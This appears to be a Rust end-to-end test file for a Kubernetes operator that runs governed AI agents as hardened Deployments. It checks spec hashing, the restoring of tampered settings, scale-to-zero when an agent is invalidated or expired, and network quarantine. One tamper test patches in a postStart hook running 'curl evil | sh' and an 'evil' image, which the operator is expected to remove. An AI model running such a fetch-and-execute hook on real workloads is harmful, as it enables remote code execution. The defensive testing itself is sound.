//! Managed agents (`spec.runtime.mode: managed`) on a real control plane: the operator keeps a
//! Deployment of hardened Pods and a ConfigMap with the approved spec and proof, both owned by
//! the Agent; kube-controller-manager makes the ReplicaSet. The Deployment is scaled to zero while
//! the agent may not run (invalidated, expired) and back when it may; what someone else changes
//! is put back; leaving managed mode deletes both. (Pods running for real on a node:
//! `e2e/tests/node.rs`.)

// Test code: a panic with the value is the failure report, in helpers as in #[test]s.
#![allow(clippy::unwrap_used)]

use agentgov_api::agent::GovernanceStatus;
use agentgov_api::hash::sha256_hex;
use agentgov_api::policy_bundle::RuntimeData;
use agentgov_api::runtime::{ManagedContainer, ManagedRuntime, RuntimeMode, RuntimeSpec};
use agentgov_api::workload::{RUNNING_LABEL, SPEC_HASH_ANNOTATION};
use agentgov_api::{Agent, AgentSpec};
use agentgov_e2e::admission::{governed_spec, sandbox_spec};
use agentgov_e2e::scenario::{Setup, WAIT, expired, setup};
use agentgov_e2e::{api_error_message, wait_for};
use k8s_openapi::api::apps::v1::{Deployment, ReplicaSet};
use k8s_openapi::api::core::v1::ConfigMap;
use k8s_openapi::api::networking::v1::NetworkPolicy;
use kube::api::{Api, DeleteParams, ListParams, Patch, PatchParams, PostParams};
use serde_json::json;

const IMAGE: &str = "registry.invalid/acme/agent@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

fn managed(mut spec: AgentSpec, replicas: i32) -> AgentSpec {
    spec.runtime = Some(RuntimeSpec {
        images: vec![IMAGE.into()],
        mode: Some(RuntimeMode::Managed),
        managed: Some(ManagedRuntime {
            containers: vec![ManagedContainer {
                name: "agent".into(),
                image: IMAGE.into(),
                args: vec!["--serve".into()],
                ..ManagedContainer::default()
            }],
            replicas: Some(replicas),
            ..ManagedRuntime::default()
        }),
    });
    spec
}

/// Wait until the agent's Deployment satisfies `check`.
async fn wait_deployment(
    setup: &Setup,
    agent: &str,
    what: &str,
    check: impl Fn(Option<&Deployment>) -> bool,
) -> Option<Deployment> {
    setup
        .wait_object(&format!("agentgov-{agent}"), what, check)
        .await
}

fn replicas(deployment: Option<&Deployment>) -> Option<i32> {
    deployment?.spec.replicas
}

fn running(deployment: &Deployment) -> Option<&str> {
    deployment
        .metadata
        .labels
        .as_ref()?
        .get(RUNNING_LABEL)
        .map(String::as_str)
}

fn spec_hash_of(deployment: &Deployment) -> String {
    deployment
        .spec
        .template
        .metadata
        .as_ref()
        .unwrap()
        .annotations
        .as_ref()
        .unwrap()[SPEC_HASH_ANNOTATION]
        .clone()
}

async fn config_map(setup: &Setup, agent: &str) -> Option<ConfigMap> {
    setup
        .ns
        .api::<ConfigMap>()
        .get_opt(&format!("agentgov-{agent}"))
        .await
        .unwrap()
        .filter(|c| c.metadata.deletion_timestamp.is_none())
}

#[tokio::test]
async fn a_managed_sandbox_runs_hardened_pods_with_its_spec_mounted_and_is_kept_so() {
    let setup = setup("managed-run", &[], RuntimeData::default()).await;
    let agents: Api<Agent> = setup.ns.api();

    // The schema: managed needs its block, and a managed image must be an approved one.
    let mut without_block = managed(sandbox_spec(3600), 1);
    without_block.runtime.as_mut().unwrap().managed = None;
    let mut stray_image = managed(sandbox_spec(3600), 1);
    stray_image.runtime.as_mut().unwrap().images = vec![IMAGE.replace("acme", "other")];
    for (spec, says) in [
        (without_block, "mode: managed needs the managed block"),
        (stray_image, "must be one of runtime.images"),
    ] {
        let refused = agents
            .create(&PostParams::default(), &Agent::new("bad", spec))
            .await
            .unwrap_err();
        assert!(
            api_error_message(&refused).contains(says),
            "{refused:?} should say {says:?}"
        );
    }

    setup
        .create_agent("runner", managed(sandbox_spec(3600), 2))
        .await;
    let deployment = wait_deployment(&setup, "runner", "running with 2 replicas", |d| {
        replicas(d) == Some(2)
    })
    .await
    .unwrap();
    assert_eq!(running(&deployment), Some("true"));
    let owner = &deployment.metadata.owner_references.as_ref().unwrap()[0];
    assert_eq!(
        (owner.kind.as_str(), owner.name.as_str()),
        ("Agent", "runner")
    );
    let pod = deployment.spec.template.spec.clone().unwrap();
    assert_eq!(pod.automount_service_account_token, Some(false));
    let container = &pod.containers[0];
    assert_eq!(container.image.as_deref(), Some(IMAGE));
    let security = container.security_context.clone().unwrap();
    assert_eq!(
        (
            security.read_only_root_filesystem,
            security.allow_privilege_escalation,
            security.run_as_non_root
        ),
        (Some(true), Some(false), Some(true))
    );
    // kube-controller-manager accepted it: a ReplicaSet for 2 Pods.
    let replica_sets: Api<ReplicaSet> = setup.ns.api();
    wait_for(WAIT, || async {
        replica_sets
            .list(&ListParams::default().labels("agentgov.dev/agent=runner"))
            .await
            .ok()?
            .items
            .iter()
            .any(|rs| rs.spec.replicas == Some(2))
            .then_some(())
    })
    .await
    .expect("no ReplicaSet for the managed agent's Deployment");

    // The ConfigMap holds the spec as hashed: its SHA-256 is the hash the Pods are stamped with.
    let config = config_map(&setup, "runner").await.expect("no ConfigMap");
    let data = config.data.clone().unwrap();
    assert_eq!(
        sha256_hex(data["spec.json"].as_bytes()),
        spec_hash_of(&deployment)
    );
    assert_eq!(data["proof.json"], "null", "a sandbox has no proof");
    assert_eq!(data["governanceStatus"], "SANDBOX");
    setup.wait_event("runner", "WorkloadStarted").await;

    // Looked at again with nothing changed: nothing is written again.
    let generation = deployment.metadata.generation;
    let config_version = config.metadata.resource_version.clone();
    setup.poke("runner").await;
    let deployments: Api<Deployment> = setup.ns.api();
    assert_eq!(
        deployments
            .get("agentgov-runner")
            .await
            .unwrap()
            .metadata
            .generation,
        generation,
        "an unchanged Deployment was written again"
    );
    assert_eq!(
        config_map(&setup, "runner")
            .await
            .unwrap()
            .metadata
            .resource_version,
        config_version,
        "an unchanged ConfigMap was written again"
    );

    // Someone scales it and swaps the image: put back.
    deployments
        .patch(
            "agentgov-runner",
            &PatchParams::default(),
            &Patch::Strategic(json!({"spec": {"replicas": 5, "template": {"spec": {
                "containers": [{"name": "agent", "image": "registry.invalid/evil:latest"}]
            }}}})),
        )
        .await
        .unwrap();
    wait_deployment(&setup, "runner", "restored", |d| {
        d.is_some_and(|d| {
            d.spec.replicas == Some(2)
                && d.spec.template.spec.as_ref().unwrap().containers[0]
                    .image
                    .as_deref()
                    == Some(IMAGE)
        })
    })
    .await;
    // Someone adds what the approved spec does not say: a postStart hook and an exec probe
    // (commands run in the approved image), a shared process namespace: taken out.
    deployments
        .patch(
            "agentgov-runner",
            &PatchParams::default(),
            &Patch::Strategic(json!({"spec": {"template": {"spec": {
                "shareProcessNamespace": true,
                "containers": [{
                    "name": "agent",
                    "lifecycle": {"postStart": {"exec": {"command": ["sh", "-c", "curl evil | sh"]}}},
                    "livenessProbe": {"exec": {"command": ["sh", "-c", "true"]}},
                }]
            }}}})),
        )
        .await
        .unwrap();
    wait_deployment(&setup, "runner", "hook and probe taken out", |d| {
        d.is_some_and(|d| {
            let pod = d.spec.template.spec.as_ref().unwrap();
            pod.share_process_namespace.is_none()
                && pod.containers[0].lifecycle.is_none()
                && pod.containers[0].liveness_probe.is_none()
        })
    })
    .await;
    // Someone deletes the ConfigMap: written again.
    setup
        .ns
        .api::<ConfigMap>()
        .delete("agentgov-runner", &DeleteParams::default())
        .await
        .unwrap();
    wait_for(WAIT, || async {
        config_map(&setup, "runner").await.map(|_| ())
    })
    .await
    .expect("the deleted ConfigMap was not written again");

    // No longer managed: both are deleted.
    agents
        .patch(
            "runner",
            &PatchParams::default(),
            &Patch::Merge(json!({"spec": {"runtime": {"mode": "external", "managed": null}}})),
        )
        .await
        .unwrap();
    wait_deployment(&setup, "runner", "deleted", |d| d.is_none()).await;
    wait_for(WAIT, || async {
        config_map(&setup, "runner").await.is_none().then_some(())
    })
    .await
    .expect("the ConfigMap of an agent no longer managed was kept");
}

#[tokio::test]
async fn a_managed_agent_is_scaled_to_zero_while_invalidated_and_back_when_valid() {
    let setup = setup("managed-gov", &[], RuntimeData::default()).await;
    setup
        .create_agent("auditor", managed(governed_spec(), 1))
        .await;
    // Awaiting approval it is a sandbox, and runs as one.
    wait_deployment(&setup, "auditor", "running", |d| replicas(d) == Some(1)).await;
    setup.approve_valid("auditor").await;
    let agent = setup.ns.api::<Agent>().get("auditor").await.unwrap();
    let proof = agent.status.unwrap().proof.unwrap();
    wait_for(WAIT, || async {
        let data = config_map(&setup, "auditor").await?.data?;
        (data["governanceStatus"] == "GOVERNED_VALID").then_some(())
    })
    .await
    .expect("the ConfigMap never showed GOVERNED_VALID");
    let data = config_map(&setup, "auditor").await.unwrap().data.unwrap();
    let mounted: agentgov_api::proof::ProofBundle =
        serde_json::from_str(&data["proof.json"]).unwrap();
    assert_eq!(mounted, proof, "the mounted proof is the agent's");
    assert_eq!(sha256_hex(data["spec.json"].as_bytes()), proof.spec_hash);

    // Stricter: the org budget drops below the agent's.
    setup
        .bundle_then(
            ("1.1.0", 100.0, RuntimeData::default()),
            "auditor",
            GovernanceStatus::GovernedInvalidated,
        )
        .await;
    let stopped = wait_deployment(&setup, "auditor", "scaled to zero", |d| {
        replicas(d) == Some(0)
    })
    .await
    .unwrap();
    assert_eq!(running(&stopped), Some("false"));
    setup.wait_event("auditor", "WorkloadStopped").await;
    assert!(setup.operator.logs().contains("AGENT_WORKLOAD_STOPPED"));

    // Looser again: re-signed, running again.
    setup
        .bundle_then(
            ("1.2.0", 10_000.0, RuntimeData::default()),
            "auditor",
            GovernanceStatus::GovernedValid,
        )
        .await;
    wait_deployment(&setup, "auditor", "running again", |d| {
        replicas(d) == Some(1)
    })
    .await;
}

#[tokio::test]
async fn an_expired_managed_sandbox_is_scaled_to_zero() {
    let setup = setup("managed-expiry", &[], RuntimeData::default()).await;
    setup
        .create_agent("short-lived", managed(sandbox_spec(4), 1))
        .await;
    wait_deployment(&setup, "short-lived", "running", |d| replicas(d) == Some(1)).await;
    setup.wait_agent("short-lived", "expired", expired).await;
    wait_deployment(&setup, "short-lived", "scaled to zero", |d| {
        replicas(d) == Some(0)
    })
    .await;
    setup.wait_event("short-lived", "WorkloadStopped").await;
    // Containment is on by default: the expired agent's Pods are cut off too.
    let policies: Api<NetworkPolicy> = setup.ns.api();
    wait_for(WAIT, || async {
        let policy = policies.get_opt("agentgov-short-lived").await.ok()??;
        (policy.metadata.labels?.get("agentgov.dev/network")? == "quarantined").then_some(())
    })
    .await
    .expect("no isolation policy for the expired managed agent");
}
